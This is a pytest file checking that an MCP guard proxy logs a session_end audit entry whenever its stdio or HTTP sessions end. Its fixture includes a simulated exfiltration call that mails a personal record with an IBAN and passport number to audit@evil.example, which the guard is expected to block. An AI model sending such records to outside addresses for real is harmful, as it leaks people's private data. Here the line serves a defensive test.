"""The MCP guard proxy closes every guard session it opens, on every way out (docs/integrations/mcp.md): a real
``mcp`` client, the proxy and the fixture server as subprocesses, and the ``session_end`` entries of the audit log
(docs/audit.md) counted per session.  Without them ``carbguard monitor`` and ``carbguard review`` never see the
session (docs/monitoring.md)."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import anyio
import pytest

pytest.importorskip("mcp")

from mcp.client.session import ClientSession
from mcp.client.stdio import StdioServerParameters, stdio_client

ROOT = Path(__file__).resolve().parents[2]
SERVER = ROOT / "tests" / "fixtures" / "mcp_server.py"
POLICY = ROOT / "tests" / "fixtures" / "mcp_policy.yaml"
ALICE = "Alice Meyer, IBAN DE89370400440532013000, passport C01X00T47"
EXFIL = {"to": "audit@evil.example", "subject": "record", "body": ALICE}


def _entries(audit: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in audit.read_text().splitlines()] if audit.exists() else []


def _ends(audit: Path) -> dict[str, dict[str, Any]]:
    """The ``session_end`` entries of the log, by session id (a second one for a session fails the test)."""
    ends: dict[str, dict[str, Any]] = {}
    for entry in _entries(audit):
        if entry.get("event") == "session_end":
            assert entry["session"] not in ends, f"two session_end entries for {entry['session']!r}"
            ends[entry["session"]] = entry
    return ends


def _until(check: Callable[[], bool], seconds: float = 20.0) -> bool:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if check():
            return True
        time.sleep(0.05)
    return check()


def _proxy_args(tmp: Path, session: str, server: list[str] | None = None) -> list[str]:
    return [
        *("-m", "guard", "mcp-proxy", "--policy", str(POLICY), "--threshold", "0.5"),
        *("--audit", str(tmp / "audit.jsonl"), "--session", session, "--"),
        *(server or [sys.executable, str(SERVER)]),
    ]


def _env(tmp: Path) -> dict[str, str]:
    return {"PYTHONPATH": str(ROOT), "MCP_FIXTURE_LOG": str(tmp / "server.log"), "PATH": os.environ.get("PATH", "")}


def _proxy_pid(session: str) -> int:
    """The pid of the proxy process serving ``session`` (a child of this test, started by the stdio client)."""
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            argv = cmdline.read_bytes().split(b"\0")
        except OSError:
            continue
        if b"mcp-proxy" in argv and session.encode() in argv:
            return int(cmdline.parent.name)
    raise AssertionError(f"no proxy process for session {session!r}")


async def _client(tmp: Path, session: str, after: Callable[[], None] | None = None) -> list[Any]:
    """A real client: read a record, try to mail it out; then ``after`` (e.g. a signal) before it hangs up."""
    params = StdioServerParameters(command=sys.executable, args=_proxy_args(tmp, session), env=_env(tmp), cwd=str(ROOT))
    with (tmp / "proxy.err").open("w") as errlog:
        async with stdio_client(params, errlog=errlog) as (read, write), ClientSession(read, write) as client:
            await client.initialize()
            results = [
                await client.call_tool("read_record", {"name": "alice"}),
                await client.call_tool("send_email", EXFIL),
            ]
            if after is not None:
                after()
                await anyio.sleep(1.5)  # the proxy stops on its own before the client hangs up
    return results


def test_stdio_client_hang_up_writes_session_end(tmp_path: Path) -> None:
    """The client hangs up (stdin EOF) after two calls: one session_end for the session, counting both decisions,
    after them in the log.  Catches a proxy that exits without closing its session (planted: the
    ``session.close()`` of serve_stdio's ``finally`` removed -> no session_end)."""
    record, sent = anyio.run(_client, tmp_path, "hangup")
    assert record.content[0].text == ALICE and sent.is_error
    audit = tmp_path / "audit.jsonl"
    assert _until(lambda: "hangup" in _ends(audit))
    end = _ends(audit)["hangup"]
    assert end["proposals"] == 2 and end["intervened"] is True and end["ended"] == "close"
    assert _entries(audit)[-1]["event"] == "session_end"  # after every decision of the session


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGINT, signal.SIGHUP])
def test_stdio_signal_writes_session_end(tmp_path: Path, signum: signal.Signals) -> None:
    """The proxy gets SIGTERM, SIGINT or SIGHUP while its client is still connected: it stops the server and writes
    the session_end before it exits.  Catches a proxy killed mid-way by the signal's default action (planted: the
    signal handlers of serve_stdio removed -> the process dies without a session_end)."""
    session = f"signal-{signum.name.lower()}"

    def stop() -> None:
        os.kill(_proxy_pid(session), signum)

    with contextlib.suppress(Exception):  # the client may see the connection go away under it
        anyio.run(_client, tmp_path, session, stop)
    audit = tmp_path / "audit.jsonl"
    assert _until(lambda: session in _ends(audit)), (tmp_path / "proxy.err").read_text()
    assert _ends(audit)[session]["proposals"] == 2
    assert "stopped by a signal" in (tmp_path / "proxy.err").read_text()


def test_stdio_broken_pipe_writes_session_end(tmp_path: Path) -> None:
    """The client goes away without closing stdin: its end of the proxy's stdout is closed while a call is in
    flight, so the answer meets a broken pipe.  Catches a proxy that ends on the broken pipe without closing the
    session (planted: the ``session.close()`` removed -> no session_end)."""
    with (tmp_path / "proxy.err").open("w") as errlog:
        proxy = subprocess.Popen(
            [sys.executable, *_proxy_args(tmp_path, "broken")],
            cwd=ROOT,
            env=_env(tmp_path),
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=errlog,
        )
    assert proxy.stdin is not None and proxy.stdout is not None
    init = {
        "jsonrpc": "2.0",
        "id": 1,
        "method": "initialize",
        "params": {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}},
    }
    call = {"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {"name": "read_record", "arguments": {}}}
    try:
        proxy.stdin.write((json.dumps(init) + "\n").encode())
        proxy.stdin.flush()
        assert json.loads(proxy.stdout.readline())["id"] == 1
        proxy.stdin.write(b'{"jsonrpc": "2.0", "method": "notifications/initialized"}\n')
        proxy.stdout.close()  # the client is gone: nobody reads the answers any more
        call["params"] = {"name": "read_record", "arguments": {"name": "alice"}}
        proxy.stdin.write((json.dumps(call) + "\n").encode())
        proxy.stdin.flush()
        audit = tmp_path / "audit.jsonl"
        assert _until(lambda: "broken" in _ends(audit)), (tmp_path / "proxy.err").read_text()
        assert _ends(audit)["broken"]["proposals"] == 1
        assert "broke" in (tmp_path / "proxy.err").read_text()
    finally:
        if proxy.poll() is None:
            proxy.stdin.close()
        proxy.wait(timeout=30)


def test_stdio_server_exit_writes_session_end(tmp_path: Path) -> None:
    """The real server exits at once (an error on its side): the proxy ends and still closes its session.  Catches
    the server-side way out left without a session_end (planted: the ``session.close()`` removed)."""
    server = [sys.executable, "-c", "import sys; sys.exit(3)"]
    proxy = subprocess.Popen(
        [sys.executable, *_proxy_args(tmp_path, "server-gone", server)],
        cwd=ROOT,
        env=_env(tmp_path),
        stdin=subprocess.PIPE,  # open, never written: only the server can end the proxy
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        assert proxy.wait(timeout=60) == 1  # the server's nonzero exit code
    finally:
        assert proxy.stdin is not None
        proxy.stdin.close()
    end = _ends(tmp_path / "audit.jsonl")["server-gone"]
    assert end["proposals"] == 0 and end["ended"] == "close"


# --------------------------------------------------------------------------- streamable HTTP

TOKEN = "test-token-0123456789abcdef"


def _free_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


class _HttpProxy:
    """The proxy in HTTP mode as a subprocess (a context manager: terminated and reaped at the end)."""

    def __init__(self, tmp: Path, *extra: str) -> None:
        import socket

        self.port = _free_port()
        self.url = f"http://127.0.0.1:{self.port}/mcp"
        self.audit = tmp / "audit.jsonl"
        self.err = tmp / "proxy.err"
        command = [
            *(sys.executable, "-m", "guard", "mcp-proxy", "--policy", str(POLICY), "--threshold", "0.5"),
            *("--audit", str(self.audit), "--http", f"127.0.0.1:{self.port}", *extra, "--"),
            *(sys.executable, str(SERVER)),
        ]
        env = {**os.environ, "PYTHONPATH": str(ROOT), "MCP_FIXTURE_LOG": str(tmp / "server.log")}
        env["CARBGUARD_MCP_TOKEN"] = TOKEN
        with self.err.open("w") as errlog:
            self.process = subprocess.Popen(command, cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=errlog)
        up = _until(lambda: self._listening(socket), 30)
        assert up, self.err.read_text()

    def _listening(self, socket: Any) -> bool:
        try:
            socket.create_connection(("127.0.0.1", self.port), timeout=0.2).close()
        except OSError:
            assert self.process.poll() is None, self.err.read_text()
            return False
        return True

    def __enter__(self) -> _HttpProxy:
        return self

    def __exit__(self, *exc: object) -> None:
        if self.process.poll() is None:
            self.process.terminate()
        self.process.wait(timeout=30)

    def ends(self) -> dict[str, dict[str, Any]]:
        return {sid: e for sid, e in _ends(self.audit).items() if sid.startswith("mcp-http-")}

    def decided(self) -> set[str]:
        return {e["session"] for e in _entries(self.audit) if "event" not in e}


async def _http_client(url: str, calls: list[tuple[str, dict[str, Any]]], hold: float = 0.0) -> list[Any]:
    from mcp.client.streamable_http import streamable_http_client
    from mcp.shared._httpx_utils import create_mcp_http_client

    async with (
        create_mcp_http_client(headers={"Authorization": f"Bearer {TOKEN}"}) as http_client,
        streamable_http_client(url, http_client=http_client) as (read, write),
        ClientSession(read, write) as client,
    ):
        await client.initialize()
        results = [await client.call_tool(name, args) for name, args in calls]
        await anyio.sleep(hold)
    return results


def test_http_client_disconnect_writes_session_end_per_session(tmp_path: Path) -> None:
    """Two real HTTP clients, each ending its MCP session (DELETE) as it leaves: one session_end per guard session,
    counting its own decisions.  Catches an HTTP proxy that drops its sessions without closing them (planted: the
    ``session.close()`` of HttpProxy._session removed -> no session_end)."""
    with _HttpProxy(tmp_path) as proxy:
        anyio.run(_http_client, proxy.url, [("read_record", {"name": "alice"}), ("send_email", EXFIL)])
        inbox: list[tuple[str, dict[str, Any]]] = [("read_inbox", {})]
        anyio.run(_http_client, proxy.url, inbox)
        assert _until(lambda: len(proxy.ends()) == 2), proxy.err.read_text()
        ends = proxy.ends()
        assert set(ends) == proxy.decided()
        assert sorted(e["proposals"] for e in ends.values()) == [1, 2]


def test_http_idle_client_is_reaped_with_session_end(tmp_path: Path) -> None:
    """A client that vanishes without ending its MCP session (no DELETE): the idle reaper ends it, and the guard
    session with it.  Catches a reaped session left open (planted: the ``session.close()`` removed)."""
    import http.client

    with _HttpProxy(tmp_path, "--idle-timeout", "1.5") as proxy:
        init = {
            "jsonrpc": "2.0",
            "id": 1,
            "method": "initialize",
            "params": {
                "protocolVersion": "2025-11-25",
                "capabilities": {},
                "clientInfo": {"name": "t", "version": "1"},
            },
        }
        conn = http.client.HTTPConnection("127.0.0.1", proxy.port, timeout=20)
        body = json.dumps(init)
        headers = {
            "Authorization": f"Bearer {TOKEN}",
            "Content-Type": "application/json",
            "Accept": "application/json, text/event-stream",
        }
        conn.request("POST", "/mcp", body, headers)
        response = conn.getresponse()
        response.read()
        conn.close()  # gone: no DELETE, no further request
        assert response.status == 200
        sid = response.getheader("mcp-session-id")
        assert _until(lambda: f"mcp-http-{sid}" in proxy.ends(), 30), proxy.err.read_text()


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGINT])
def test_http_shutdown_writes_session_end_for_open_sessions(tmp_path: Path, signum: signal.Signals) -> None:
    """The proxy is stopped (SIGTERM / SIGINT) while a client's MCP session is open: every open guard session is
    closed before the process exits.  Catches a shutdown that leaves them open (planted: the lifespan's
    ``stack.aclose()`` before ``shutdown.complete`` removed -> no session_end on SIGTERM; the ``session.close()`` of
    HttpProxy._session removed -> none on either)."""
    with _HttpProxy(tmp_path) as proxy:

        async def hold_open() -> None:
            async with anyio.create_task_group() as tg:
                calls: list[tuple[str, dict[str, Any]]] = [("read_record", {"name": "alice"})]
                tg.start_soon(_http_client, proxy.url, calls, 60.0)
                assert await anyio.to_thread.run_sync(lambda: _until(lambda: bool(proxy.decided())))
                proxy.process.send_signal(signum)
                await anyio.to_thread.run_sync(proxy.process.wait, 30)
                tg.cancel_scope.cancel()

        with contextlib.suppress(Exception):  # the client sees the server go away under it
            anyio.run(hold_open)
        assert proxy.process.poll() is not None
        ends = proxy.ends()
        assert set(ends) == proxy.decided() and len(ends) == 1, proxy.err.read_text()
        assert next(iter(ends.values()))["proposals"] == 1
